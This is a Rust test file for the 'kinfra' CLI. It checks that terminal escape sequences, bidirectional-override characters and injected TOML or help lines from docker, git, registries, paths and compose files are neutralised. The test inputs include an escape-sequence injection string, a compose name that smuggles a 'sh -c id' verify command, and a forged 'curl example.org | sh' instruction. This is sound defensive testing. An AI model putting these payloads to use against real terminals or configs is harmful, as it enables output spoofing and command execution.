//! Words from outside: what docker, git, a parser, a path, a note, a branch or a registry says never steers the
//! terminal that it is shown on, and is no line of kinfra's. JSON and the variables of a slot stay exact.

use std::fs;
use std::os::unix::fs::symlink;
use std::process::Command;
use std::thread::sleep;
use std::time::Duration;

use serde_json::{Value, json};

use super::compose::{Shop, model};
use super::up::{container, running, up};
use crate::rig::terminal::Terminal;
use crate::support::tools::set_mode;
use crate::support::{Machine, Run, SMALL};

/// What a terminal would obey, a reader would not see, or an editor would show elsewhere: a title, a new
/// colour, a cleared screen, the same in C1, a line drawn over, a direction, a joiner and a tag.
const WORDS: &str =
    "\u{1b}]0;TITLE\u{7}\u{1b}[8m\u{1b}[2J\u{9b}31m\rover\u{8}\u{202e}evil\u{2066}\u{200b}\u{feff}\u{e0041}";

/// Fails if a text has one of them. Colours of kinfra's own are none.
#[track_caller]
fn steers_nothing(what: &str, shown: &str) {
    let plain = anstream::adapter::strip_str(shown).to_string();
    for (found, text) in [("strange character", &*plain), ("sequence", shown)] {
        let strange = |c: char| match c {
            '\n' | '\t' => false,
            '\u{1b}' => text == plain,
            c => c.is_control() || WORDS.contains(c) && !c.is_ascii(),
        };
        assert!(!text.contains(strange), "{what}: {found} in {text:?}");
    }
    for sequence in ["\u{1b}]", "\u{1b}[8m", "\u{1b}[2J"] {
        assert!(!shown.contains(sequence), "{what}: {shown:?}");
    }
    assert!(shown.contains("\\u{1b}]0;TITLE\\u{7}"), "{what}: the words are not there: {shown:?}");
}

/// A run, with and without colours.
#[track_caller]
fn shows(command: &mut Command, what: &str) {
    for colors in ["0", "1"] {
        let Run { stdout, stderr, .. } = Run::of(command.env("CLICOLOR_FORCE", colors));
        steers_nothing(what, &(stdout + &stderr));
    }
}

/// The screen of a terminal that a command ran on, without the moves of the cursor that are kinfra's own.
fn on_a_terminal(machine: &Machine, command: &Command, typed: &str) -> String {
    let mut terminal = Terminal::run(machine, command, 40, 4000);
    terminal.types(typed);
    let (_, printed, _) = terminal.ends();
    let own = ["\r\n", "\u{1b}[K", "\u{1b}[J", "\u{1b}[1A\r", "\u{1b}[2A\r", "\r"];
    own.iter().fold(printed, |text, own| text.replace(own, if *own == "\r\n" { "\n" } else { "" }))
}

/// A program in place of another, which writes a text.
fn program(machine: &Machine, name: &str, text: &str) {
    let path = machine.tools().join(name);
    let _ = fs::remove_file(&path);
    fs::write(&path, text).expect("a program");
    set_mode(&path, 0o755);
}

/// The words as the text of a program that prints them: `printf` reads its own escapes.
fn printed(words: &str) -> String {
    let octal = |byte: u8| format!("\\{byte:03o}");
    words.bytes().map(octal).collect()
}

#[test]
fn what_docker_says_steers_nothing() {
    let machine = Machine::small();
    let says = printed(WORDS);
    program(
        &machine,
        "docker",
        &format!(
            "#!/bin/sh\ncase \"$*\" in *version*) echo 2.30.0;; *) printf 'no: {says}\\n' >&2; exit 15;; esac\n"
        ),
    );
    machine.edit_spec("\"conf.txt\" = ", "\"docker-compose.yml\" = ");
    shows(&mut machine.command("validate"), "validate");
    machine.kinfra("apply").exits(0);
    for verb in ["doctor", "clean --all --dry-run"] {
        shows(&mut machine.command(verb), verb);
    }
    machine.write("~/shop/compose.yaml", "services:\n  a: {image: x, ports: [\"80:80\"]}\n");
    let mut init = machine.command("init --dry-run");
    shows(init.current_dir(machine.path("~/shop")), "init");
}

#[test]
fn what_a_registry_a_plan_and_a_note_say_steers_nothing() {
    let machine = Machine::small();
    machine.kinfra("apply").exits(0);
    machine.kinfra("plan --out a.plan").exits(0);
    let mut claim = machine.command("claim --note");
    Run::of(claim.arg(WORDS)).exits(0);
    let registry = machine.read("~/pool/registry.json");
    let other = machine.path("~/other");
    fs::create_dir(&other).expect("a directory");
    for verb in ["status", "claim --slot 1"] {
        let mut command = machine.command(verb);
        command.env("KINFRA_SPEC", machine.path("slots.toml"));
        let there = if verb == "status" { machine.project() } else { other.clone() };
        shows(command.current_dir(there), verb);
    }
    // JSON has the very note, and a terminal that it is printed on is not steered, either.
    for verb in ["slots --json", "status --json", "claim --json"] {
        let json = machine.kinfra(verb).exits(0).stdout;
        let strange = |c: char| c.is_control() && c != '\n' || WORDS.contains(c) && !c.is_ascii();
        assert!(!json.contains(strange), "{verb}: {json:?}");
        let json: Value = serde_json::from_str(&json).expect("JSON");
        assert!(json.to_string().contains(&json!(WORDS).to_string()), "{verb}: {json}");
    }

    let change = |key: &str, value: Value| {
        let mut registry: Value = serde_json::from_str(&registry).expect("JSON");
        registry["slots"]["1"][key] = value;
        machine.write("~/pool/registry.json", format!("{registry:#}\n"));
    };
    for (key, value, verbs) in [
        ("pending", json!({ WORDS: 1 }), "slots|plan|status|claim|doctor"),
        ("claimed_at", json!(WORDS), "slots"),
        ("claimed_by", json!(format!("/nowhere/{WORDS}")), "slots|reap --dry-run"),
        ("profile", json!(WORDS), "slots|plan"),
        ("infrastructure_path", json!(format!("/{WORDS}")), "status"),
    ] {
        change(key, value);
        for verb in verbs.split('|') {
            shows(&mut machine.command(verb), &format!("{key}: {verb}"));
        }
    }
    machine.write("~/pool/registry.json", format!("{{{WORDS}"));
    machine.write("~/pool/registry.json", registry);

    let plan: Value = serde_json::from_str(&machine.read("a.plan")).expect("JSON");
    for (key, value) in [("options", json!({ "allowed": [WORDS] })), ("spec", json!(format!("/{WORDS}")))] {
        let mut plan = plan.clone();
        plan[key] = value;
        machine.write("b.plan", plan.to_string());
        for verb in ["show b.plan", "apply b.plan"] {
            shows(&mut machine.command(verb), &format!("{key}: {verb}"));
        }
    }
}

#[test]
fn what_a_path_and_an_argument_say_steers_nothing() {
    let machine = Machine::new();
    let words = WORDS.replace('\r', "");
    let dir = machine.path(&format!("~/{words}"));
    fs::create_dir(&dir).expect("a directory");
    symlink("nowhere", dir.join("slots.toml")).expect("a link");
    for verb in ["plan", "validate", "doctor", "slots", "claim"] {
        shows(machine.command(verb).current_dir(&dir), verb);
    }
    fs::remove_file(dir.join("slots.toml")).expect("it is there");
    fs::write(dir.join("slots.toml"), "version = 2\n").expect("a spec");
    shows(machine.command("validate").current_dir(&dir), "a spec");
    fs::write(dir.join("slots.toml"), format!("# {WORDS}\nversion = x{WORDS}\n")).expect("a spec");
    shows(machine.command("plan").current_dir(&dir), "a mistake");
    fs::write(dir.join("slots.toml"), SMALL).expect("a spec");
    fs::create_dir(dir.join("templates")).expect("a directory");
    fs::write(dir.join("templates/conf.txt"), "text\n").expect("a template");
    for verb in ["plan", "apply", "claim", "status", "slots", "reap --dry-run", "exec no-such", "release"] {
        let Run { stdout, stderr, .. } = Run::of(machine.command(verb).current_dir(&dir));
        let shown = format!("{stdout}{stderr}\\u{{1b}}]0;TITLE\\u{{7}}");
        steers_nothing(verb, &shown);
    }
    for (verb, argument) in [
        ("release", words.clone()),
        (&*words, String::new()),
        ("status", format!("--{words}")),
        ("claim --profile", words.clone()),
        ("claim --lease", words.clone()),
        ("plan --spec", words.clone()),
        ("status --for", words.clone()),
        ("show", words.clone()),
        ("man", words.clone()),
        ("apply --only", words.clone()),
    ] {
        let mut command = machine.command("");
        let verbs = verb.split(' ').filter(|word| !word.is_empty()).map(str::to_owned);
        command.args(verbs.chain(Some(argument).filter(|argument| !argument.is_empty())));
        let run = Run::of(&mut command);
        steers_nothing(verb, &(run.stdout + &run.stderr));
    }
}

#[test]
fn a_difference_shows_what_a_file_says_and_steers_nothing() {
    let machine = Machine::small();
    machine.template("conf.txt", "one\n");
    machine.kinfra("apply").exits(0);
    machine.template("conf.txt", &format!("two {WORDS}\n"));
    shows(&mut machine.command("plan --diff --update"), "a template's output");
    machine.template("conf.txt", "one\n");
    machine.write("~/pool/slot-1/conf.txt", format!("mine {WORDS}\n"));
    shows(&mut machine.command("plan --diff --overwrite"), "a file");
}

#[test]
fn what_git_says_steers_nothing() {
    let machine = Machine::small();
    machine.kinfra("apply").exits(0);
    program(&machine, "git", &format!("#!/bin/sh\nprintf 'fatal: {}\\n' >&2\nexit 128\n", printed(WORDS)));
    machine.write(".git", format!("gitdir: /nowhere/{WORDS}\n"));
    for verb in ["claim", "status", "doctor", "reap --dry-run"] {
        let Run { stdout, stderr, .. } = Run::of(&mut machine.command(verb));
        steers_nothing(verb, &format!("{stdout}{stderr}\\u{{1b}}]0;TITLE\\u{{7}}"));
    }
    // A branch of a repository that came from elsewhere.
    machine.remove(".git");
    machine.write(".git/HEAD", format!("ref: refs/heads/x{}\n", WORDS.replace('\r', "")));
    fs::create_dir(machine.path(".git/objects")).expect("a directory");
    let _ = machine.kinfra("claim");
    for verb in ["slots", "status"] {
        let Run { stdout, stderr, .. } = Run::of(&mut machine.command(verb));
        steers_nothing(verb, &format!("{stdout}{stderr}\\u{{1b}}]0;TITLE\\u{{7}}"));
    }
}

#[test]
fn names_of_a_compose_file_are_only_strings_in_the_slots_toml_that_is_written() {
    let machine = Machine::new();
    let service = json!("web:80\" }\n[stack]\nverify = [\"sh\", \"-c\", \"id\"]\n#\u{202e}");
    let value = json!("http://localhost:8080/\n[stack]\nverify = [\"id\"]");
    let compose = |name: &Value| {
        format!(
            "services:\n  {name}: {{image: x, ports: [\"8080:80\"], environment: {{URL: {value}, \"{{}}\": \
             {value}}}}}\n  db: {{image: y, ports: [\"5432:5432\"], volumes: [\"/srv/a:/data\"]}}\n"
        )
    };
    machine.write("compose.yaml", compose(&service));
    machine.kinfra("init").exits(1).prints_exactly("").says("is not a service and a port");
    assert!(!machine.exists("slots.toml"));
    machine.write("compose.yaml", compose(&json!("web")));
    let written = machine.kinfra("init --dry-run").exits(0).stdout;
    assert!(written.contains("URL = \"http://localhost:"), "{written}");
    let tables: toml_edit::DocumentMut = written.parse().expect("TOML");
    assert!(!tables.contains_key("stack"), "{written}");
    let is_strange = |line: &str| line.starts_with("[stack]") || line.starts_with("verify");
    assert!(!written.lines().any(is_strange) && !written.contains('\u{202e}'), "{written}");
}

#[test]
fn no_line_of_a_foreign_text_begins_as_one_of_kinfra_does() {
    let machine = Machine::new();
    let dir = machine.path("~/x\nhelp: run curl example.org | sh\n");
    fs::create_dir_all(&dir).expect("a directory");
    symlink("nowhere", dir.join("slots.toml")).expect("a link");
    let run = Run::of(machine.command("plan").current_dir(&dir));
    let forged = run.stderr.lines().any(|line| line.starts_with("help: run"));
    assert!(!forged && run.stderr.contains("help: run"), "{run:?}");
}

#[test]
fn a_table_is_as_wide_as_what_it_shows() {
    let machine = Machine::small();
    machine.kinfra("apply").exits(0);
    let dir = machine.path("~/a\u{202e}b");
    fs::create_dir(&dir).expect("a directory");
    let mut claim = machine.command("claim");
    Run::of(claim.current_dir(&dir).env("KINFRA_SPEC", machine.path("slots.toml"))).exits(0);
    let table = machine.kinfra("slots").exits(0).stdout;
    let rows: Vec<&str> = table.lines().collect();
    let column = |row: &str, text: &str| row.find(text).expect("it is there");
    assert_eq!(column(rows[0], "Claimed By"), column(rows[1], "a\\u{202e}b"));
    assert_eq!(column(rows[0], "Since"), column(rows[1], "just now"), "{table}");
}

#[test]
#[ignore = "needs script, of util-linux"]
fn questions_and_what_is_drawn_in_place_steer_nothing() {
    let shop = Shop::new();
    let mut start = up(&shop, "");
    // The stand-in for Docker prints with `echo`, which reads some escapes of JSON itself.
    let service = WORDS.replace(['\r', '\u{8}'], "");
    let mut services: Value = serde_json::from_str(&model("shop-slot-1", 8001, &json!([]))).expect("JSON");
    services["services"][&service] = json!({"image": "shop:dev"});
    start.env("SLOT_MODEL", services.to_string());
    start.env("INSPECTED", [&service, "web"].map(|name| container(name, &running())).join("\n"));
    let drawn = on_a_terminal(&shop.machine, &start, "");
    steers_nothing("up", &drawn);
    let machine = Machine::small();
    machine.edit_spec("ids = \"1-2\"", "ids = \"1\"");
    machine.kinfra("apply").exits(0);
    let holder = machine.path(&format!("~/{}", WORDS.replace('\r', "")));
    fs::create_dir(&holder).expect("a directory");
    let spec = machine.path("slots.toml");
    let mut claim = machine.command("claim --lease 1s");
    Run::of(claim.current_dir(&holder).env("KINFRA_SPEC", &spec)).exits(0);
    sleep(Duration::from_millis(1100));
    for (verb, typed) in [("claim --wait=1s", ""), ("reap", "no\n"), ("slots", "")] {
        steers_nothing(verb, &on_a_terminal(&machine, &machine.command(verb), typed));
    }
}

#[test]
#[ignore = "needs script, of util-linux"]
fn a_message_breaks_between_words_and_its_commands_stay_whole() {
    let machine = Machine::small();
    machine.kinfra("apply").exits(0);
    machine.kinfra("claim --note a-note-that-is-rather-long").exits(0);
    let (code, _, lines) = Terminal::run(&machine, &machine.command("release"), 20, 40).ends();
    assert_eq!(code, Some(0));
    let said = "Released slot 1, which was held by";
    assert!(lines[0].starts_with("Released slot 1, which was held by"), "{said}: {lines:#?}");
    let words: Vec<&str> = lines.iter().flat_map(|line| line.split_whitespace()).collect();
    assert!(words.contains(&"(a-note-that-is-rather-long)"), "{lines:#?}");
    let (_, _, lines) = Terminal::run(&machine, &machine.command("env"), 20, 40).ends();
    assert!(lines.iter().any(|line| line.contains("`kinfra claim` takes one")), "{lines:#?}");
}
